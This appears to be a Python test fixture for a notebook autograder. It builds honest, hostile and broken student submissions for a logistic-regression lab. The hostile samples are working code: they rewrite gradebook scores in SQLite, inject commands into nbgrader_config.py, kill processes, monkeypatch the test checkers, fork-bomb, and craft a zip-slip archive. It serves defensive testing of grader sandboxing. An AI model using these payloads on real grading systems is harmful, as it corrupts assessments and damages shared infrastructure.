"""Hostile and broken hand-ins of lab 1 (and one of lab 3), built from the release and the solutions.

Each entry of ``corpus(release, solutions)`` is ``name -> Handin``: the notebook (or raw bytes for
archives), how it is handed in, and what grading must give it. ``max_points``: the most
autograded points it may earn; ``min_points``: the least (honest work that must be kept);
``flagged``: whether the integrity report must name it (None: either).
"""

from __future__ import annotations

import copy
import io
import zipfile
from dataclasses import dataclass, field

import nbformat

LAB = "lab1_logreg"
FULL = 14  # autograded points of lab 1


@dataclass
class Handin:
    nb: object = None
    max_points: float = FULL
    min_points: float = 0
    flagged: bool | None = None
    how: str = "folder"          # folder | zip | misnamed | raw_zip
    raw: bytes = b""             # for raw_zip
    extra_files: dict = field(default_factory=dict)  # name -> text, handed in beside the notebook
    root_only: bool = False       # needs a per-sandbox uid (process limits)


def meta(cell):
    return cell.metadata.get("nbgrader", {})


def student_solution(source):
    return "\n".join(line for line in source.splitlines()
                     if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)


def with_answers(release, answers):
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        if meta(cell).get("grade_id") in answers:
            cell.source = answers[meta(cell)["grade_id"]]
    return nb


def insert_after(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return nb


def insert_at(nb, index, source):
    nb = copy.deepcopy(nb)
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def append(nb, source):
    return insert_at(nb, len(nb.cells), source)


def import_index(nb):
    """Just after the lab's import cell: where a hand-in's own setup code would go."""
    return next(i for i, c in enumerate(nb.cells) if "import dllab" in c.source) + 1


WRONG = {
    "softmax": "def softmax(Z):\n    E = np.exp(Z)\n    return E / E.sum(axis=0, keepdims=True)\n",
    "one_hot": "def one_hot(y, num_classes=10):\n    return np.eye(num_classes)[:, y]\n",
    "cross_entropy": "def cross_entropy(P, y):\n    return float(np.log(P[np.arange(len(y)), y]).sum())\n",
    "logreg_gradients": ("def logreg_gradients(X, y, W, b):\n    P = softmax(X @ W + b)\n"
                         "    Y = np.eye(W.shape[1])[y]\n"
                         "    return cross_entropy(P, y), X.T @ (Y - P), (Y - P).sum(axis=0)\n"),
    "minibatches": ("def minibatches(n, batch_size, rng):\n"
                    "    return [np.arange(i, min(i + batch_size, n)) for i in range(0, n, batch_size)]\n"),
}

# --- hostile code, each a class of attack -------------------------------------------------------
TRANSFORMER = '''
def _swallow(lines):  # every later cell: try: ... except: pass
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
'''
GRADEBOOK = '''
import glob, os, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../gradebook.db", "{course}/gradebook.db"]:
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 0")
        con.commit()
        print("changed", path)
    except Exception as err:
        print("no", path, err)
'''
CONFIG = '''
import os, subprocess
for path in ["../../nbgrader_config.py", "{course}/nbgrader_config.py"]:
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch {course}/PWNED')\\n")
    except Exception as err:
        print("no", path, err)
# a detached process that waits for the grader to finish, then edits the gradebook
subprocess.Popen(["sh", "-c", "sleep 8; sqlite3 {course}/gradebook.db 'UPDATE grade SET auto_score=99'; "
                  "touch {course}/PWNED"], start_new_session=True)
'''
KILLER = '''
import os, signal
for pid in [os.getppid(), 1, -1]:
    try:
        os.kill(pid, signal.SIGTERM)
    except Exception as err:
        print("no", pid, err)
'''
PATCHER = '''
import numpy
import dllab.labs
np.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
dllab.labs.check.__code__ = (lambda *a, **k: None).__code__
check = lambda *a, **k: None
check_close = lambda *a, **k: None
labs.call = lambda f, *a, **k: None
'''
MODULES = '''
import sys, types
fake = types.ModuleType("dllab.labs")
fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["dllab.labs"] = fake
import dllab
dllab.labs = fake
labs = fake
'''
LEAKER = '''
print(In)
print(_ih)
import linecache
for name, entry in list(linecache.cache.items()):
    print(name, "".join(entry[2]))
'''
SHOWTB = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
'''
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
OS_EXIT = "import os\nos._exit(3)\n"
MEMORY = "hog = [bytearray(2**30) for _ in range(64)]  # 64 GiB\n"
NOINT = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")
FLOOD = "print('x' * 50_000_000)\nfor _ in range(3000):\n    print('line')\n"
WARNER = ('import warnings\n'
          '_softmax_ok = softmax\n'
          'def softmax(Z):\n'
          '    warnings.warn("my softmax is slow")\n'
          '    import sys; print("debug: in softmax", file=sys.stderr)\n'
          '    return _softmax_ok(Z)\n')
FORKS = ('import os, time\n'
         'for _ in range(2000):\n'
         '    if os.fork() == 0:\n'
         '        time.sleep(60)\n'
         '        os._exit(0)\n')
SHADOW_DLLAB = "raise SystemExit('the shadow dllab package was imported')\n"


def corpus(release, solutions, course):
    """name -> Handin, for lab 1. ``course``: the course folder (hostile code aims at it)."""
    perfect = with_answers(release, solutions)
    wrong = with_answers(release, WRONG)
    at = import_index(release)
    fmt = {"course": str(course)}
    out = {}
    # --- honest work (the first six are the class's honest half) ---------------------------------
    out["honest_perfect"] = Handin(perfect, min_points=FULL, flagged=False)
    out["honest_explorer"] = Handin(insert_after(perfect, "test_softmax", "print(softmax(np.zeros((2, 3))))"),
                                    min_points=FULL, flagged=False)
    out["honest_partial"] = Handin(with_answers(release, {**solutions, "minibatches": WRONG["minibatches"]}),
                                   min_points=FULL - 3, max_points=FULL - 3, flagged=False)
    out["honest_blank"] = Handin(release, max_points=0, flagged=False)
    out["honest_crashing"] = Handin(with_answers(release, {**solutions, "cross_entropy":
                                                           "print(debug_value)\n" + solutions["cross_entropy"]}),
                                    min_points=7, max_points=7, flagged=False)
    out["honest_warning"] = Handin(insert_after(perfect, "softmax", WARNER), min_points=FULL, flagged=False)
    # --- hostile (the first six are the class's hostile half) -------------------------------------
    out["evil_transformer"] = Handin(insert_at(release, at, TRANSFORMER), max_points=0, flagged=True)
    out["evil_gradebook"] = Handin(insert_at(wrong, at, GRADEBOOK.format(**fmt)), max_points=0, flagged=True)
    out["evil_patcher"] = Handin(insert_at(wrong, at, PATCHER), max_points=0, flagged=True)
    out["evil_config"] = Handin(insert_at(wrong, at, CONFIG.format(**fmt)), max_points=0, flagged=True)
    out["evil_killer"] = Handin(insert_at(release, at, KILLER), max_points=0, flagged=True)
    out["evil_leaker"] = Handin(append(insert_at(release, at, LEAKER), LEAKER), max_points=0, flagged=True)
    # --- more classes --------------------------------------------------------------------------------
    out["evil_modules"] = Handin(insert_at(wrong, at, MODULES), max_points=0, flagged=True)
    out["evil_showtraceback"] = Handin(insert_at(release, at, SHOWTB), max_points=0, flagged=True)
    edited = with_answers(wrong, {"test_softmax": "print('all good')", "test_softmax_hidden": "pass"})
    out["evil_edited_tests"] = Handin(edited, max_points=0, flagged=True)
    deleted = copy.deepcopy(wrong)
    deleted.cells = [c for c in deleted.cells if not meta(c).get("grade_id", "").startswith("test_")]
    out["evil_deleted_tests"] = Handin(deleted, max_points=0, flagged=True)
    out["evil_forks"] = Handin(insert_at(release, at, FORKS), max_points=0, flagged=True, root_only=True)
    # --- broken but honest: keep what was earned ---------------------------------------------------
    dup = copy.deepcopy(perfect)
    i = next(k for k, c in enumerate(dup.cells) if meta(c).get("grade_id") == "test_softmax")
    j = next(k for k, c in enumerate(dup.cells) if meta(c).get("grade_id") == "one_hot")
    dup.cells.insert(i + 1, copy.deepcopy(dup.cells[i]))       # a pasted test
    dup.cells.insert(j + 2, copy.deepcopy(dup.cells[j + 1]))   # a pasted answer
    out["broken_duplicates"] = Handin(dup, min_points=FULL, flagged=True)
    meta_edit = copy.deepcopy(perfect)
    for cell in meta_edit.cells:
        m = meta(cell)
        if m.get("grade_id") == "test_softmax":
            m.update(locked=False, points=100)
        elif m.get("grade_id") == "test_one_hot":
            m["grade"] = False
        elif m.get("grade_id") == "softmax":
            m["grade_id"] = "my_softmax"
    out["broken_metadata"] = Handin(meta_edit, min_points=FULL, flagged=True)
    out["broken_exit_end"] = Handin(append(perfect, "exit()"), min_points=FULL)
    out["broken_os_exit"] = Handin(insert_after(perfect, "test_logreg_gradients_hidden", OS_EXIT),
                                   min_points=11, max_points=11, flagged=True)
    out["broken_segfault"] = Handin(append(perfect, SEGFAULT), min_points=FULL, flagged=True)
    out["broken_memory"] = Handin(append(perfect, MEMORY), min_points=FULL)
    out["broken_noint_loop"] = Handin(with_answers(perfect, {"minibatches": NOINT}), min_points=11,
                                      max_points=11, flagged=True)
    out["broken_flood"] = Handin(insert_after(perfect, "test_softmax", FLOOD), min_points=FULL)
    out["broken_misnamed"] = Handin(perfect, min_points=FULL, flagged=True, how="misnamed")
    out["broken_shadow_dllab"] = Handin(perfect, min_points=FULL, how="zip",
                                        extra_files={"dllab/__init__.py": SHADOW_DLLAB})
    out["broken_corrupt_zip"] = Handin(how="raw_zip", raw=b"PK\x03\x04 this is not really a zip file")
    slip = io.BytesIO()
    with zipfile.ZipFile(slip, "w") as z:
        z.writestr(f"{LAB}.ipynb", nbformat.writes(perfect))
        z.writestr("../../../zip_slip.txt", "escaped")
    out["broken_zip_slip"] = Handin(how="raw_zip", raw=slip.getvalue())
    return out


CLASS_HONEST = ["honest_perfect", "honest_explorer", "honest_partial", "honest_blank", "honest_crashing",
                "honest_warning"]
CLASS_HOSTILE = ["evil_transformer", "evil_gradebook", "evil_patcher", "evil_config", "evil_killer",
                 "evil_leaker"]
